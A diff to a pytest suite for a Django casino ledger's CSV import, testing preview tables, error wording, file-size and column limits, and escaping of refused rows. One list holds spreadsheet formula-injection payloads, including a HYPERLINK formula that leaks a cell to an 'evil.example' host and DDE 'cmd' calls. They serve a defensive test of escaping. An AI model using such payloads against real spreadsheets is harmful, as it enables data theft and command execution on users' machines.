@@ -109,8 +109,38 @@ def test_the_preview_reads_each_value_in_the_rooms_zone(people, table):
     assert readings["Amount"] == "$3.00"
     assert readings["Payer"] == "Player"
     assert readings["Key"] == "from the row's content"
-    assert rows[4]["problem"] == "table: no table 'T-99' at Casino Marysville."
+    assert rows[4]["problem"] == "Table, column “Table”: no table 'T-99' at Casino Marysville."
+    assert rows[4]["bad"] == {"Table"} and dict(rows[4]["readings"])["Table"] == "T-99"
     assert RoundOfPlay.objects.count() == 0 and CollectionEntry.objects.count() == 0
+
+
+def test_the_preview_is_a_table_with_bad_values_marked_and_said_in_words(client, people, table):
+    """Issue 33: a compact table, each bad value marked (a class and a ✗, not colour alone), what is wrong said
+    with the field's name and the file's column, never the JSON parser's own words."""
+    header = [*HEADER[:-1], "Round facts"]
+    rows = [round_("H-1"), round_("H-2", facts='{wagers: [1]}'), entry("H-3", 1, payer="dealer"),
+            entry("H-4", 2, "x" * 5000)]
+    received = imports.receive(people.compliance, people.marysville, upload(as_csv(rows, header)))
+    mapping = {**MAPPING, "facts": "Round facts"}
+    imports.save_mapping(people.compliance, people.marysville, mapping, header)
+    client.force_login(people.compliance)
+    page = client.get(f"{PAGES}{received.uuid}/preview/")
+    html = page.content.decode()
+    assert page.status_code == 200 and '<table class="grid compact small" id="preview">' in html
+    assert "Expecting property name" not in html and "line 1 column 2" not in html
+    table = page.context["table"]
+    assert [row["line"] for row in table] == [2, 3, 4, 5]
+    assert table[1]["problem"] == (
+        "Facts, column “Round facts”: is not JSON (it goes wrong at character 2): write the round's facts as the "
+        "quote API's JSON, such as {\"wagers\": [{\"player\": \"p1\", \"base\": \"150\"}]}.")
+    assert table[1]["bad"] == ["Facts"] and not table[0]["bad"] and not table[0]["problem"]
+    assert table[2]["bad"] == ["Payer"] and table[3]["bad"] == ["Amount"]
+    assert html.count('<td class="bad"><strong>✗ </strong>') == 3
+    assert "&#x27;dealer&#x27;: not a payer" in html and "Will be refused:</strong> Payer" in html
+    assert "x" * 100 not in html  # a long value is cut
+    assert html.count("<tr") == 1 + 4  # a row a line, the header's
+
+
 
 
 def test_the_mapping_and_preview_pages(client, people, table):
@@ -182,6 +212,46 @@ def test_refused_rows_download_fix_and_import_again(client, people, table, djang
     third, _ = imported(people.compliance, people.marysville, as_csv(fixed, rows[0]),
                         django_capture_on_commit_callbacks, name="fixed.csv")
     assert (third.entries_recorded, third.already_recorded) == (0, 4)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0",
+            "+1+2", "-1+2"]
+NOTES = ["\tlead", "\r=lead", "''already quoted", "=1+1", "plain"]  # in a column not mapped: carried along
+
+
+def test_refused_rows_come_back_escaped_and_read_back_as_they_came(client, people, table,
+                                                                    django_capture_on_commit_callbacks):
+    header = [*HEADER, "=Note"]
+    rows = []
+    for number, (text, note) in enumerate(zip(FORMULAS, NOTES)):
+        row = [*entry(f"F-{number}", 1), note]
+        row[7] = text  # the player: the ledger refuses one a spreadsheet would read as a formula
+        rows.append(row)
+    rows.append([*entry("P-1", 3, "-5.00"), "-5.00"])  # refused (a negative amount): a plain number
+    content = as_csv(rows, header).replace(b"\r=lead", b'"\r=lead"')  # a CR in a cell is quoted
+    received, job = imported(people.compliance, people.marysville, content, django_capture_on_commit_callbacks)
+    assert received.refused == len(rows) and received.entries_recorded == 0, job.result
+    client.force_login(people.compliance)
+    download = b"".join(client.get(f"{PAGES}{received.uuid}/refused.csv").streaming_content).decode()
+    written = list(csv.reader(io.StringIO(download, newline="")))
+    # No cell a spreadsheet would run: each formula-like one (and the header's) has a ' before it; so has one
+    # that began with ' (read as "'already quoted"), so that the escape can be undone.
+    assert written[0] == [*HEADER, "'=Note", "refused because"]
+    cells = [cell for row in written for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert [cell for cell in cells if cell.startswith("-")] == ["-5.00", "-5.00"]  # a plain number stays one
+    for escaped in ("'=cmd|' /C calc'!A0", "'-1+2", "'\tlead", "'\r=lead", "''already quoted", "'=1+1"):
+        assert escaped in cells
+    # Read back by the import, each cell is the text the import read the first time: a fixed row keeps its
+    # content (and so its key).
+    again = imports.receive(people.compliance, people.marysville, upload(download.encode(), "refused.csv"))
+    assert again.header == [*HEADER, "=Note", "refused because"]
+    first = {cells[4]: cells for _, cells, _ in imports.read_rows(received)}
+    assert first["F-2"][-1] == "'already quoted" and first["F-0"][7] == FORMULAS[0]
+    back = list(imports.read_rows(again))
+    assert len(back) == len(rows)
+    for _, cells, _ in back:
+        assert cells[:-1] == first[cells[4]]
 
 
 def test_more_bad_rows_than_the_ledger_names_at_once(people, table, django_capture_on_commit_callbacks):
@@ -297,17 +367,74 @@ def test_bad_files_are_refused_and_nothing_kept(client, people, name, content, m
     assert RecordImport.objects.count() == 0
 
 
-def test_too_big_too_many_rows_and_empty(people, monkeypatch):
+def test_too_big_too_many_rows_and_empty(people, monkeypatch, settings):
     with pytest.raises(BadInput, match="The file is empty."):
         imports.receive(people.compliance, people.marysville, upload(b""))
-    monkeypatch.setattr(imports.reading, "MAX_BYTES", 100)
-    with pytest.raises(BadInput, match="the import takes at most 0 MB"):
+    settings.IMPORT_MAX_BYTES = 100
+    with pytest.raises(BadInput, match="the import takes files of at most 100 bytes: split it"):
         imports.receive(people.compliance, people.marysville, upload(as_csv(GOOD * 3)))
-    monkeypatch.setattr(imports.reading, "MAX_BYTES", 10**6)
+    settings.IMPORT_MAX_BYTES = 10**6
     monkeypatch.setattr(imports.reading, "MAX_ROWS", 3)
     with pytest.raises(BadInput, match="more than 3 rows"):
         imports.receive(people.compliance, people.marysville, upload(as_csv(GOOD * 3)))
     assert RecordImport.objects.count() == 0
+
+
+def test_a_day_of_several_megabytes_is_taken_by_the_page_and_previewed(client, people, table):
+    """Over Django's 2.5 MB of memory: streamed to a temporary file, checked and kept (issue 32)."""
+    rows = [entry(f"H-{number}", number % 7 + 1) for number in range(50_000)]
+    content = as_csv(rows)
+    assert len(content) > 3 * 1024 * 1024
+    client.force_login(people.compliance)
+    response = client.post(PAGES + "new/", {"file": upload(content)})
+    assert response.status_code == 302, response.content[:500]
+    received = RecordImport.objects.get()
+    assert (received.rows, received.size) == (50_000, len(content))
+    assert received.sha256 == hashlib.sha256(content).hexdigest()
+    client.post(f"{PAGES}{received.uuid}/mapping/", MAPPING)
+    preview = client.get(f"{PAGES}{received.uuid}/preview/")
+    assert preview.status_code == 200 and b"Import 50000 rows" in preview.content
+    assert len(preview.context["rows"]) == imports.PREVIEW_ROWS
+
+
+def test_a_file_over_the_limit_is_refused_naming_the_limit_before_it_is_read(client, people, settings):
+    settings.IMPORT_MAX_BYTES = 100 * 1024
+    client.force_login(people.compliance)
+    content = as_csv([entry(f"H-{number}", 1) for number in range(3_000)])  # about 190 kB
+    response = client.post(PAGES + "new/", {"file": upload(content)}, HTTP_ACCEPT="text/html")
+    assert response.status_code == 413
+    assert "the import takes files of at most 100 kB: split it." in response.content.decode()
+    assert response["Content-Type"].startswith("text/html")
+    # Just over the limit (within the form's allowance): refused by the import's own check, on the form.
+    content = as_csv([entry(f"H-{number}", 1) for number in range(1_700)])
+    assert 100 * 1024 < len(content) < 100 * 1024 + 64 * 1024
+    response = client.post(PAGES + "new/", {"file": upload(content)})
+    assert response.status_code == 400
+    assert "the import takes files of at most 100 kB: split it." in response.context["form"].errors["file"][0]
+    assert RecordImport.objects.count() == 0
+
+
+def test_a_file_of_too_many_columns_or_too_long_a_name_is_refused_quickly(client, people, settings):
+    """20,000 columns once made a 12 MB mapping page (issue 32): refused on upload, nothing kept."""
+    import time
+
+    client.force_login(people.compliance)
+    header = [f"c{number}" for number in range(20_000)]
+    started = time.monotonic()
+    response = client.post(PAGES + "new/", {"file": upload(as_csv([["x"] * 20_000] * 3, header))})
+    assert time.monotonic() - started < 5
+    assert response.status_code == 400
+    assert response.context["form"].errors["file"][0] == (
+        "The file has 20,000 columns; the import reads at most 200 (a room's system writes a dozen or two): export "
+        "only the columns of rounds and collections.")
+    response = client.post(PAGES + "new/", {"file": upload(as_csv([["1", "2"]], ["Table", "x" * 5000]))})
+    assert response.status_code == 400
+    assert "Column 2's name is 5,000 characters long; a column's name may have at most 100" in \
+        response.context["form"].errors["file"][0]
+    settings.IMPORT_MAX_COLUMNS = 12
+    assert client.post(PAGES + "new/", {"file": upload(as_csv(GOOD, [*HEADER, "a", "b"]))}).status_code == 400
+    assert RecordImport.objects.count() == 0 and not AuditLogEntry.objects.filter(
+        action="ledger.import_uploaded").exists()
 
 
 def xlsx(rows):
